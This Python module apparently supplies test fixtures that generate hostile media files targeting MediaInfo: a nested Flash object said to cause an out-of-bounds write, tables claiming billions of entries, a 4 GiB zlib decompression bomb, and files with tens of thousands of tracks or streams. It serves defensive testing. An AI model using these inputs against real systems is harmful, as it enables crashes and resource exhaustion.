"""Small files that are made to do harm: to crash MediaInfo, or to cost it minutes or gigabytes.

What each does was seen with MediaInfo 24.12. They are made here and not kept, for other programs' sake."""

import struct
import zlib

from .building import box, full_box

_NO_LIMIT = 0xFFFFFFFF
# More boxes than the header reader goes through: it gives such a file to MediaInfo.
MANY_BOXES = box(b"free") * 8200
_QUICKTIME = box(b"ftyp", b"qt  \0\0\0\0qt  ")


def flash(body):
    """A Flash video whose only tag holds `body` as the properties of the film."""
    script = b"\x02" + struct.pack(">H", 10) + b"onMetaData" + body
    tag = b"\x12" + len(script).to_bytes(3, "big") + bytes(7) + script
    return b"FLV\x01\x05" + struct.pack(">II", 9, 0) + tag + struct.pack(">I", len(tag))


def nested_flash(depth=64):
    """Objects in objects: from a depth of 64 on MediaInfo writes where it must not."""
    return flash(b"\x03\0\x01a" * depth + b"\x05" + b"\0\0\x09" * depth)


def endless_flash():
    """A tag that says it has four thousand million properties."""
    return flash(b"\x08" + struct.pack(">I", _NO_LIMIT))


def flash_animation():
    """The start of a Flash animation."""
    return b"FWS\x06" + struct.pack("<I", 40) + bytes(32)


def sound(*samples, name=b""):
    """A track of sound with these sample tables."""
    handler = full_box(b"hdlr", bytes(4), b"soun", bytes(12), b"\0")
    media = box(b"mdia", full_box(b"mdhd", bytes(20)), handler, box(b"minf", box(b"stbl", *samples)))
    return box(b"trak", full_box(b"tkhd", bytes(80)), media, name and box(b"udta", box(b"name", name)))


def endless_samples():
    """Sample tables that claim 2^32 entries and hold none."""
    count = struct.pack(">I", _NO_LIMIT)
    tables = [
        full_box(b"stsd", count),
        full_box(b"stsz", bytes(4), count),
        full_box(b"stts", count * 3),
        full_box(b"stco", count),
    ]
    return _QUICKTIME + box(b"moov", sound(*tables), MANY_BOXES)


def many_tracks(count=50_000):
    """An index of tracks with nothing in them."""
    return _QUICKTIME + box(b"moov", sound() * count, MANY_BOXES)


def packed_header(mebibytes=4096):
    """A compressed QuickTime header that holds so many zeros."""
    packer = zlib.compressobj(9)
    start = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    # After a full flush nothing refers to what was before it: the same bytes stand for a mebibyte once more.
    again = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    data = start + again * (mebibytes - 1) + packer.flush()
    size = struct.pack(">I", min(mebibytes << 20, _NO_LIMIT))
    packed = box(b"cmov", box(b"dcom", b"zlib"), box(b"cmvd", size, data))
    return _QUICKTIME + box(b"moov", packed)


def long_name(mebibytes=60):
    """A track with a name of so many mebibytes."""
    return _QUICKTIME + box(b"moov", sound(name=b"a" * (mebibytes << 20)), MANY_BOXES)


def many_streams(count=38_000):
    """An Ogg file that begins so many streams of Vorbis."""
    header = b"\x01vorbis" + struct.pack("<IBIiiiBB", 0, 2, 48000, 0, 128000, 0, 0xB8, 1)
    pages = []
    for serial in range(count):
        page = struct.pack("<4sBBqIIIB", b"OggS", 0, 2, 0, serial, 0, 0, 1)
        pages.append(page + bytes([len(header)]) + header)
    return b"".join(pages)


FILES = {
    "objects in objects in a Flash video": nested_flash,
    "a Flash video with properties without end": endless_flash,
    "a Flash animation": flash_animation,
    "sample tables without end": endless_samples,
    "fifty thousand tracks": many_tracks,
    "a header that unpacks to four gibibytes": packed_header,
    "a name of sixty mebibytes": long_name,
    "thirty-eight thousand streams": many_streams,
}
